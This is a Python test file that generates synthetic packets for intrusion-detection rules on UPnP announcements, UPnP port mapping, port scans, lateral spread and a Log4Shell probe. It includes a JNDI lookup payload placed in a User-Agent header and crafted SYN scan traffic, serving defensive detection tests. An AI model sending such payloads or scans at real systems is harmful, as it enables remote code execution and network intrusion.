"""DSC - what announces itself; SCN - who scans, spreads, attacks."""
import struct

import speak
from scene import fires, helper, monitor, near
from speak import NAME
from wire import Tcp, group

NAMES = helper("generic-names")
UPNP = group("239.255.255.250")


def announce(s, me, kind):
    s.udp(me, 1900, UPNP, 1900, (
        "NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nCACHE-CONTROL: "
        f"max-age=1800\r\nLOCATION: http://{me.ip}:49152/{NAME}/d.xml\r\nNT: {kind}"
        "\r\nNTS: ssdp:alive\r\nSERVER: Linux/5.10 UPnP/1.0 ZZ/1\r\n"
        f"USN: uuid:c5a6a7b2-0000-1000-8000-{me.mac.hex()}::{kind}\r\n\r\n").encode())
    return me


@fires("DSC-001")
def upnp_of_a_monitor(s):
    return announce(s, monitor(s, 10), "urn:schemas-upnp-org:device:Basic:1")


@near("DSC-001")
def upnp_of_a_television(s):
    monitor(s, 10)
    announce(s, s.host(1), "urn:schemas-upnp-org:device:Basic:1")


@near("DSC-001")
def upnp_of_no_device(s):
    announce(s, monitor(s, 10), "urn:schemas-upnp-org:service:Basic:1")


def soap(s, action):
    client = s.host(1)
    speak.ask(s, client, s.host(2), 5000, "POST", "/ctl/IPConn", [
        "Content-Type: text/xml", 'SOAPAction: "urn:schemas-upnp-org:service:'
        f'WANIPConnection:1#{action}"'], f"<a>{NAME}</a>".encode())
    return client


@fires("DSC-002")
def opens_a_port(s):
    return soap(s, "AddPortMapping")


@near("DSC-002")
def asks_for_the_ports(s):
    soap(s, "GetGenericPortMappingEntry")


@fires("SCN-005")
def jndi(s):
    client = s.host(1)
    speak.ask(s, client, s.host(2), path="/login",
              head=["User-Agent: ${jndi:ldap://zz/a}", f"X-Name: {NAME}"])
    return client


@near("SCN-005")
def words_about_jndi(s):
    speak.ask(s, s.host(1), s.host(2), path="/doc",
              head=["User-Agent: jndi:ldap tester {jndi}", f"X-Name: {NAME}"])


# ---- scans ----

def knock(s, client, server, port, answer=None):
    """A SYN; answer: RST or SYN and ACK."""
    s.port += 1
    source = s.port

    def segment(a, b, ports, flags, number):
        octets = struct.pack(">HHIIBBHHH", *ports, number, 0, 0x50, flags, 1024, 0, 0)
        s.ip(a, b, 6, s.summed(a, b, 6, octets, 16))
    segment(client, server, (source, port), Tcp.SYN, 1000)
    if answer is not None:
        segment(server, client, (port, source), answer, 0)


RST = 4 | Tcp.ACK


def sweep(s, n, seconds, answers=0):
    """n ports of one host, over a time; one in so many answers."""
    client, server = s.host(1), s.host(2)
    for i in range(n):
        if answers and i % answers == answers - 1:
            speak.ask(s, client, server, 1000 + i)
        else:
            knock(s, client, server, 1000 + i, RST)
        s.wait(seconds / n)
    return client


@fires("SCN-001", text=False)
def asks_21_ports_in_a_minute(s):
    return sweep(s, 21, 50)


@near("SCN-001")
def asks_20_ports(s):
    sweep(s, 20, 50)


@near("SCN-001")
def asks_21_ports_in_two_minutes(s):
    sweep(s, 21, 126)


@near("SCN-001")
def asks_25_ports_and_a_third_answers(s):
    sweep(s, 25, 50, 3)


@near("SCN-001")
def asks_25_servers_of_names(s):
    """They answer; whoever sees questions alone sees that of the first."""
    client = s.host(1)
    speak.ask(s, client, s.host(2))
    for n in range(25):
        s.udp(client, 50000 + n, s.host(30 + n), 53, NAMES.question(7, NAME))
        s.udp(s.hosts[-1], 53, client, 50000 + n, NAMES.answer(
            7, NAME, b"\x0a\0\0\1"))


def sweep_of(s, ports):
    """A scan of 30 doors, so many of them of a monitor."""
    me, other = monitor(s, 10), s.host(2)
    for i in range(30):
        knock(s, s.host(1) if i == 0 else s.hosts[-1],
              me if i < ports else other, 2000 + i, RST)
    return me


@fires("SCN-002")
def five_ports_of_a_monitor(s):
    return sweep_of(s, 5)


@near("SCN-002")
def four_ports_of_a_monitor(s):
    sweep_of(s, 4)


@near("SCN-002")
def five_ports_of_a_printer(s):
    monitor(s, 10)
    sweep(s, 30, 50)


def spread(s, hosts, seconds=120, port=445):
    me = monitor(s, 10)
    for i in range(hosts):
        knock(s, me, s.host(30 + i), port)
        s.wait(seconds / hosts)
    return me


@fires("SCN-003")
def monitor_asks_16_hosts(s):
    return spread(s, 16)


@near("SCN-003")
def monitor_asks_15_hosts(s):
    spread(s, 15)


@near("SCN-003")
def monitor_asks_16_hosts_slowly(s):
    spread(s, 16, 400)


@near("SCN-003")
def monitor_asks_16_hosts_for_printing(s):
    spread(s, 16, port=9100)
